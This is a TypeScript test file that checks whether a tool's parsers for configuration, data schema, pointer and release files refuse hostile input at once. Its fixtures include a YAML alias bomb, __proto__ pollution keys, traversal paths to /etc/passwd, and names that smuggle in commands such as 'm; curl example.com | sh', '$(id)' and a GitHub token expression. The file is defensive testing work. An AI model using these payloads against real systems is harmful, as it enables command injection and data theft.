import { describe, expect, test } from "vitest";
import { parseConfig } from "../../core/config/parse-config.ts";
import { parseDataSchema } from "../../core/data/schema/parse-data-schema.ts";
import { parseDataLock } from "../../core/data/sources/data-lock.ts";
import { parseDvcPointer } from "../../core/data/sources/pointers.ts";
import { describeError, SluiceError } from "../../core/errors.ts";
import { parseReleaseFile } from "../../core/release/parse-release-file.ts";

/** Files of a repository that a pull request may change. Each is refused with a sentence, at once, and no file is followed. */

const config = (change: (text: string) => string) => () =>
  parseConfig(
    change(`version: 1
models:
  m:
    task: binary-classification
    data: { source: data/*.csv, target: y, split: { train: 80%, validation: 10%, holdout: 10% } }
    train: { baseline: linear }
    gates: [{ metric: roc_auc, at_least: 0.6 }]
environments:
  production: { branch: env/production, target: { kind: embedded, url: "http://127.0.0.1:9" } }
`),
    "sluice.yaml",
  );
const named = (name: string) => config((text) => text.replace("  m:\n", `  ${JSON.stringify(name)}:\n`));
const schema = (column: string) => () =>
  parseDataSchema(`version: 1\ncolumns:\n  a: { type: string, ${column} }\n`, "data.schema.yaml");
const pointer = (path: string) => () =>
  parseDvcPointer(`outs:\n- { path: ${JSON.stringify(path)}, md5: ${"a".repeat(32)} }\n`, "data.dvc");
const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${[..."bcdefghi"]
  .map((key, index) => `${key}: &${key} [${Array(9).fill(`*${"abcdefgh"[index]}`).join(",")}]\n`)
  .join("")}`;
const digest = `sha256:${"0".repeat(64)}`;
const releaseFile = (ref: string) => () => parseReleaseFile(`version: 1\nmodel: m\nstable: ${ref}\n`, "m");

const attacks: [string, () => unknown, RegExp][] = [
  ["a configuration that expands without end", () => parseConfig(bomb, "sluice.yaml"), /alias/],
  ["a data schema that expands without end", () => parseDataSchema(bomb, "data.schema.yaml"), /alias/],
  ["a lock that expands without end", () => parseDataLock(bomb), /alias/],
  ["a release file that expands without end", () => parseReleaseFile(bomb, "m"), /alias/],
  ["a configuration with the key __proto__", config((text) => `${text}__proto__: { isAdmin: true }\n`), /__proto__/],
  ["a model called __proto__", named("__proto__"), /__proto__/],
  ["a model whose name is a path", named("../../etc"), /not a valid name/],
  ["a model whose name is a command", named("m; curl example.com | sh"), /not a valid name/],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of GitHub's, never of ours
  ["a model whose name is an expression", named("${{ github.token }}"), /not a valid name/],
  ["a model whose name is a line of output", named("m\nmodel=other"), /not a valid name/],
  ["a model without a gate", config((text) => text.replace(/\[\{ metric.*\}\]/, "[]")), /at least one gate/],
  ["a gate at NaN", config((text) => text.replace("0.6", ".nan")), /must be a number/],
  [
    "an environment on the default branch",
    config((text) => text.replace("env/production,", "main,")),
    /must be env\/NAME/,
  ],
  [
    "an environment whose branch is a path",
    config((text) => text.replace("env/production,", "env/../main,")),
    /must be env\/NAME/,
  ],
  [
    "a metric whose name is a command",
    config((text) =>
      `${text}`.replace(
        "    train:",
        '    evaluate: { custom: [{ name: "$(id)", run: x, direction: higher }] }\n    train:',
      ),
    ),
    /name must be lower-case/,
  ],
  ["a pattern that refers back", schema('pattern: "(a+)\\\\1"'), /refers back/],
  ["a pattern that looks ahead", schema('pattern: "(?=a)"'), /looks ahead/],
  ["a pattern that is torn", schema('pattern: "(a"'), /not closed/],
  ["a pointer to the folder above", pointer("../../etc/passwd"), /points outside/],
  ["a pointer to a file of the machine", pointer("/etc/passwd"), /points outside/],
  ["a pointer by way of a folder", pointer("data/../../secret"), /points outside/],
  [
    "a release whose digest is a path",
    releaseFile('{ release: m@v1, digest: "sha256:../../x", uri: x }'),
    /must be sha256/,
  ],
  [
    "a release whose name is a path",
    releaseFile(`{ release: "../m@v1", digest: "${digest}", uri: x }`),
    /must be MODEL@vN/,
  ],
  [
    "a release with an endless address",
    releaseFile(`{ release: m@v1, digest: "${digest}", uri: ${"x".repeat(2000)} }`),
    /1000/,
  ],
];

function reasonOf(read: () => unknown): string {
  try {
    return `accepted: ${JSON.stringify(read())}`;
  } catch (error) {
    if (error instanceof SluiceError) return describeError(error);
    throw error;
  }
}

describe("what is refused at once", () => {
  test.each(attacks)("%s", (_, read, why) => {
    const started = performance.now();
    expect(reasonOf(read)).toMatch(why);
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });
});

test("the same files are read where nothing is wrong with them", () => {
  expect(config((text) => text)().models.m?.gates).toHaveLength(1);
  expect(schema('pattern: "^[A-Z]{3}$"')().schema.columns.a).toBeDefined();
  expect(pointer("flights.csv")()).toHaveLength(1);
  expect(releaseFile(`{ release: m@v1, digest: "${digest}", uri: x }`)().stable?.release).toBe("m@v1");
});
